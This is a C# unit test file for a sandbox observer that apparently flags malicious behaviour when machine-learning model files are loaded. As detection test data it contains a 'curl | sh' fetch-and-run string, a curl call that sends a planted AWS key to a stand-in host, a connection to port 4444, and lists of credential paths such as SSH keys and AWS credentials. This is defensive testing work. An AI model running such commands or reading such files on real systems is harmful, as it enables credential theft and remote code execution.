using System.Text;
using DynaHug.Worker.Evidence;
using DynaHug.Worker.Sandbox;
using DynaHug.Worker.Tracing;
using static DynaHug.Worker.Tests.Evidence.Runs;

namespace DynaHug.Worker.Tests.Evidence;

/// <summary>Every kind of indicator, seen where it belongs and not where an honest load comes near it.</summary>
public sealed class ObserverSpecs
{
    private const long Write = 0x1;
    private const long WriteNew = 0x241;

    [Fact]
    public void A_shell_is_a_program_and_a_shell() =>
        Ids(With(Fork(3), Exec(3, "/bin/sh", "-c", "id"), Ended(3, 3))).ShouldBe(["program-started", "shell-started"]);

    [Fact]
    public void A_program_that_is_not_there_counts_once_for_the_whole_search_path()
    {
        var run = With(Fork(3), ExecAttempt(3, "/usr/bin/miner", "miner", "-o"), ExecAttempt(3, "/bin/miner", "miner", "-o"), Ended(3, 3));

        TraceReader.Summarise(run).Indicators.ShouldHaveSingleItem().Evidence.ShouldBe("miner -o");
    }

    [Fact]
    public void Questions_about_the_machine_are_no_programs() =>
        Ids(With(Fork(3), ExecAttempt(3, "/sbin/ldconfig", "/sbin/ldconfig", "-p"), Ended(3, 3))).ShouldBeEmpty();

    [Fact]
    public void A_program_that_only_borrows_a_harmless_name_is_one() =>
        Ids(With(Fork(3), ExecAttempt(3, "/tmp/ldconfig", "/sbin/ldconfig", "-p"), Ended(3, 3))).ShouldBe(["program-started"]);

    [Fact]
    public void An_exec_of_the_loader_replaces_it() =>
        Ids(Cut(Exec(LoaderProcess, "/bin/echo", "hi"))).ShouldBe(["program-started", "process-replaced"]);

    [Fact]
    public void A_fork_without_a_program_is_its_own_indicator() =>
        Ids(With(Fork(3), Ended(3, 3))).ShouldBe(["process-forked"]);

    [Fact]
    public void Failed_forks_make_a_storm_too() =>
        Ids(With([.. Enumerable.Repeat(Call("fork"), 40)])).ShouldBe(["fork-storm"]);

    [Fact]
    public void Many_threads_are_no_storm() =>
        Ids(With([.. Enumerable.Repeat(Call("clone", 0x3d0f00), 40)])).ShouldBeEmpty();

    [Fact]
    public void A_connection_is_a_network_attempt() =>
        Ids(With(Call("socket", 2, 1), Connect("93.184.216.34", 443))).ShouldBe(["socket-opened", "network-attempt"]);

    [Fact]
    public void A_datagram_needs_no_connection() =>
        Ids(With(Call("socket", 2, 2), Call("sendto", 3, 100, 8, 0, 200, 16))).ShouldBe(["socket-opened", "network-attempt"]);

    [Fact]
    public void A_listening_socket_is_a_network_attempt() =>
        Ids(With(Call("socket", 2, 1), Call("listen", 3, 5))).ShouldBe(["socket-opened", "network-attempt"]);

    [Fact]
    public void Local_name_services_are_left_out() =>
        Ids(With(Call("socket", 1, 1), ConnectUnix("/var/run/nscd/socket"), Call("sendto", 3, 100, 20, 0, 200, 12))).ShouldBeEmpty();

    [Fact]
    public void Other_local_services_are_not() =>
        Ids(With(Call("socket", 1, 1), ConnectUnix("/var/run/docker.sock"))).ShouldBe(["network-attempt"]);

    [Theory]
    [InlineData("/home/emma/.aws/credentials")]
    [InlineData("/home/emma/.ssh/../.ssh//id_rsa")]
    [InlineData("/proc/self/root/home/emma/.netrc")]
    [InlineData("/proc/self/environ")]
    [InlineData("/proc/self/cwd/.ssh/id_rsa")]
    [InlineData(".aws/credentials")]
    public void Planted_credentials_read_by_any_name_are_seen(string path) => Ids(With(Open(path))).ShouldContain("secret-read");

    [Theory]
    [InlineData("/model/file")]
    [InlineData("/home/emma/project/README.md")]
    [InlineData("config")]
    [InlineData("/usr/share/zoneinfo/UTC")]
    [InlineData("/proc/cpuinfo")]
    [InlineData("/proc/meminfo")]
    [InlineData("/proc/self/maps")]
    [InlineData("/sys/devices/system/cpu/online")]
    [InlineData("/usr/lib/python3/dist-packages/sklearn/svm/_classes.py")]
    public void Files_that_honest_loads_read_are_not(string path) => Ids(With(Open(path))).ShouldBeEmpty();

    [Fact]
    public void A_link_to_a_planted_file_is_as_good_as_reading_it() => Ids(Reporting(
        """{"outcome":"loaded","audit":[{"event":"os.symlink","arguments":"'/home/emma/.ssh/id_rsa', '/tmp/notes', -1"}]}""")).ShouldContain("secret-read");

    [Fact]
    public void Looking_into_a_credential_folder_is_probing() => Ids(With(Open("/home/emma/.ssh"))).ShouldBe(["secret-probed"]);

    [Fact]
    public void The_list_of_accounts_is_seen() => Ids(With(Open("/etc/passwd"))).ShouldBe(["account-list-read"]);

    [Theory]
    [InlineData("plain")]
    [InlineData("hexadecimal")]
    [InlineData("base64")]
    [InlineData("base64 after one byte")]
    [InlineData("base64 after two bytes")]
    public void A_planted_secret_in_the_output_is_a_leak_in_any_encoding(string encoding)
    {
        var token = HoneyHome.Of(Honey).Variables["HF_TOKEN"];
        var printed = encoding switch
        {
            "plain" => token,
            "hexadecimal" => Convert.ToHexStringLower(Encoding.ASCII.GetBytes(token)),
            "base64" => Convert.ToBase64String(Encoding.ASCII.GetBytes(token)),
            "base64 after one byte" => Convert.ToBase64String(Encoding.ASCII.GetBytes($"x{token}")),
            _ => Convert.ToBase64String(Encoding.ASCII.GetBytes($"xy{token}")),
        };

        Ids(With() with { StandardOutput = $"x={printed}\n" }).ShouldBe(["canary-leaked"]);
    }

    [Fact]
    public void Another_images_secret_is_none_of_this_one() =>
        Ids(With() with { StandardOutput = HoneyHome.Draw().Variables["HF_TOKEN"] }).ShouldBeEmpty();

    [Fact]
    public void Ordinary_output_leaks_nothing() =>
        Ids(With() with { StandardOutput = "epoch 3, loss 0.2, hf_hub is a library", StandardError = "AKIA" }).ShouldBeEmpty();

    [Fact]
    public void A_secret_in_an_argument_is_a_leak() =>
        Ids(With(Fork(3), Exec(3, "/bin/curl", $"http://x/?k={HoneyHome.Of(Honey).Variables["AWS_ACCESS_KEY_ID"]}"), Ended(3, 3))).ShouldContain("canary-leaked");

    [Theory]
    [InlineData("/usr/lib/python3/dist-packages/a.pth")]
    [InlineData("/home/emma/.local/lib/python3.11/site-packages/sitecustomize.py")]
    [InlineData("/home/emma/.bashrc")]
    [InlineData("/home/emma/.ssh/authorized_keys")]
    [InlineData("/etc/cron.d/x")]
    [InlineData("/home/emma/.cache/huggingface/hub/models--a/blobs/x")]
    public void Start_files_written_are_persistence(string path) => Ids(With(Open(path, WriteNew))).ShouldContain("persistence-written");

    [Fact]
    public void A_start_file_that_is_only_read_is_not() => Ids(With(Open("/home/emma/.bashrc"))).ShouldBeEmpty();

    [Fact]
    public void Other_files_written_are_told_apart() => Ids(With(Open("/home/emma/notes.txt", Write))).ShouldBe(["file-written-outside-tmp"]);

    [Theory]
    [InlineData("/tmp/tmp0a_bcde9/storages")]
    [InlineData("/dev/null")]
    public void Scratch_space_may_be_written(string path) => Ids(With(Open(path, WriteNew))).ShouldBeEmpty();

    [Theory]
    [InlineData("/dev/shm/x")]
    [InlineData("/tmp/weights.pth")]
    [InlineData("/tmp/tmp0a_bcde9/../storages")]
    public void Other_temporary_files_are_seen(string path) => Ids(With(Open(path, WriteNew))).ShouldBe(["file-written-in-tmp"]);

    [Fact]
    public void A_file_made_executable_is_seen() => Ids(With(Call("chmod", 100, 0x1ed))).ShouldBe(["made-executable"]);

    [Fact]
    public void Other_modes_are_not() => Ids(With(Call("chmod", 100, 0x180))).ShouldBeEmpty();

    [Fact]
    public void Removing_own_temporary_files_is_honest() =>
        Ids(With(Open("/tmp/tmp0a_bcde9/tensors", WriteNew), Open("/tmp/tmp0a_bcde9/pickle", WriteNew), Call("unlink"), Call("unlink"), Call("rmdir"))).ShouldBeEmpty();

    [Fact]
    public void Removing_another_file_is_seen() => Ids(With(Call("unlink"))).ShouldBe(["file-deleted"]);

    [Fact]
    public void Removing_many_is_wiping() => Ids(With([.. Enumerable.Repeat(Call("unlinkat"), 30)])).ShouldBe(["mass-deletion"]);

    [Fact]
    public void Rewriting_many_is_too() =>
        Ids(With([.. Enumerable.Range(0, 20).Select(number => Open($"/home/emma/Documents/{number}", Write))])).ShouldContain("mass-deletion");

    [Theory]
    [InlineData("mmap", 7ul, 0x22ul)]
    [InlineData("mmap", 5ul, 0x22ul)]
    [InlineData("mprotect", 7ul, 0ul)]
    [InlineData("mprotect", 5ul, 0ul)]
    public void Memory_for_machine_code_is_seen(string call, ulong protection, ulong flags) =>
        Ids(With(Call(call, 0, 4096, protection, flags))).ShouldBe(["executable-memory"]);

    [Theory]
    [InlineData("mmap", 3ul, 0x22ul)]
    [InlineData("mmap", 5ul, 0x812ul)]
    [InlineData("mprotect", 1ul, 0ul)]
    public void Memory_for_data_and_libraries_is_not(string call, ulong protection, ulong flags) =>
        Ids(With(Call(call, 0, 4096, protection, flags))).ShouldBeEmpty();

    [Fact]
    public void A_library_dropped_and_loaded_is_machine_code() =>
        Ids(With(Open("/tmp/x.so", WriteNew), Open("/tmp/x.so", 0x80000), Call("mmap", 0, 4096, 5, 0x812, 3))).ShouldBe(["file-written-in-tmp", "executable-memory"]);

    [Fact]
    public void A_library_of_the_system_is_not() =>
        Ids(With(Open("/tmp/tmp0a_bcde9/storages", WriteNew), Open("/usr/lib/x86_64-linux-gnu/libz.so.1", 0x80000), Call("mmap", 0, 4096, 5, 0x812, 3))).ShouldBeEmpty();

    [Theory]
    [InlineData("memfd_create", 0ul, "memory-file")]
    [InlineData("ptrace", 0ul, "process-tampering")]
    [InlineData("process_vm_writev", 0ul, "process-tampering")]
    [InlineData("prctl", 15ul, "process-renamed")]
    [InlineData("mount", 5ul, "privilege-attempt")]
    [InlineData("setuid", 0ul, "privilege-attempt")]
    [InlineData("sched_setaffinity", 0ul, "processor-claimed")]
    [InlineData("getpgid", LoadMarkers.Start, "tracer-tampering")]
    [InlineData("getpgid", LoadMarkers.End, "tracer-tampering")]
    [InlineData("alarm", 5ul, "delayed-work")]
    [InlineData("clock_nanosleep", 0ul, "delayed-work")]
    [InlineData("read", 0ul, "waits-for-input")]
    public void Telling_calls_are_seen(string call, ulong argument, string id) => Ids(With(Call(call, argument))).ShouldBe([id]);

    [Theory]
    [InlineData("prctl", 38ul)]
    [InlineData("setuid", 1000ul)]
    [InlineData("sched_getaffinity", 0ul)]
    [InlineData("getpgid", 0ul)]
    [InlineData("alarm", 0ul)]
    [InlineData("read", 3ul)]
    [InlineData("futex", 0ul)]
    [InlineData("uname", 0ul)]
    [InlineData("sysinfo", 0ul)]
    public void Their_harmless_neighbours_are_not(string call, ulong argument) => Ids(With(Call(call, argument))).ShouldBeEmpty();

    [Theory]
    [InlineData("/proc/version")]
    [InlineData("/proc/self/status")]
    [InlineData("/proc/1/cgroup")]
    [InlineData("/sys/class/dmi/id/product_name")]
    public void Questions_of_who_hides_are_seen(string path) => Ids(With(Open(path))).ShouldBe(["sandbox-probing"]);

    [Fact]
    public void The_loaders_own_files_are_not_the_loads_business() => Ids(With(Open("/app/loader.py"))).ShouldBe(["tracer-tampering"]);

    [Fact]
    public void A_thread_that_outlives_the_load_is_delayed_work() =>
        Ids(Of(Start, Thread(5), End, Ended(5, LoaderProcess), Exit)).ShouldBe(["delayed-work"]);

    [Fact]
    public void A_thread_that_ends_with_the_load_is_not() => Ids(With(Thread(5), Ended(5, LoaderProcess))).ShouldBeEmpty();

    [Theory]
    [InlineData("nt.system", "'calc.exe'")]
    [InlineData("requests.get", "'http://10.0.0.1/x'")]
    [InlineData("acme.tools.run", "'curl -s http://x | sh'")]
    [InlineData("acme.tools.run", "'import os; os.system(1)'")]
    [InlineData("acme.net.open", "('10.0.0.1', 4444)")]
    public void An_unknown_callable_with_a_command_is_seen(string name, string arguments) => Ids(Calling(name, arguments)).ShouldBe(["unknown-callable"]);

    [Theory]
    [InlineData("ultralytics.nn.modules.Conv", "3, 64, kernel_size=3")]
    [InlineData("transformers.TrainingArguments", "output_dir='./results', report_to=['tensorboard']")]
    [InlineData("mylib.Tokenizer", "'bert-base-uncased', lower=True")]
    [InlineData("mylib.Stage", "'eval'")]
    [InlineData("mylib.Version", "'1.2.3'")]
    public void A_class_of_the_authors_own_is_not(string name, string arguments) => Ids(Calling(name, arguments)).ShouldBeEmpty();

    [Fact]
    public void An_exit_without_a_report_kills_the_loader() => Ids(Cut(Call("exit_group"))).ShouldBe(["loader-killed"]);

    [Theory]
    [InlineData("SystemExit")]
    [InlineData("KeyboardInterrupt")]
    public void Exit_called_while_loading_does_too(string error) =>
        Ids(Reporting($$$"""{"outcome":"raised","error":{"type":"{{{error}}}","message":"0"}}""")).ShouldBe(["loader-killed"]);

    [Fact]
    public void A_signal_to_the_loader_is_seen() => Ids(Cut(Call("kill", LoaderProcess, 15)) with { ExitCode = 143 }).ShouldBe(["loader-killed"]);

    [Fact]
    public void A_crash_is_told_apart_from_a_kill() =>
        Ids(Of(Start, Ended(LoaderProcess, LoaderProcess, status: 11)) with { LoaderReport = null, ExitCode = 139 }).ShouldBe(["loader-crashed"]);

    [Fact]
    public void A_report_that_is_none_is_tampering() => Ids(With() with { LoaderReport = "nonsense" }).ShouldBe(["tracer-tampering"]);

    [Fact]
    public void Processor_time_beyond_the_size_is_seen() =>
        Ids(Reporting("""{"outcome":"loaded","bytes":1000,"cpu":30.0}""")).ShouldBe(["processor-burned"]);

    [Fact]
    public void Processor_time_of_a_huge_file_is_not() =>
        Ids(Reporting("""{"outcome":"loaded","bytes":1000000000,"cpu":30.0}""")).ShouldBeEmpty();

    private static RunRecord Calling(string name, string arguments) =>
        Reporting(System.Text.Json.JsonSerializer.Serialize(new { outcome = "loaded", calls = new[] { new { callable = name, arguments } } }));

    [Theory]
    [InlineData("builtins exec", true)]
    [InlineData("posix system", true)]
    [InlineData("collections OrderedDict", false)]
    [InlineData("ultralytics.nn.tasks DetectionModel", false)]
    [InlineData("nonsense", false)]
    public void A_callable_that_the_loader_heard_named_is_judged_by_the_rules_of_static_reading(string named, bool dangerous) =>
        Ids(Reporting($$"""{"outcome":"loaded","named":["{{named}}"]}""")).Contains("dangerous-callable").ShouldBe(dangerous);
}
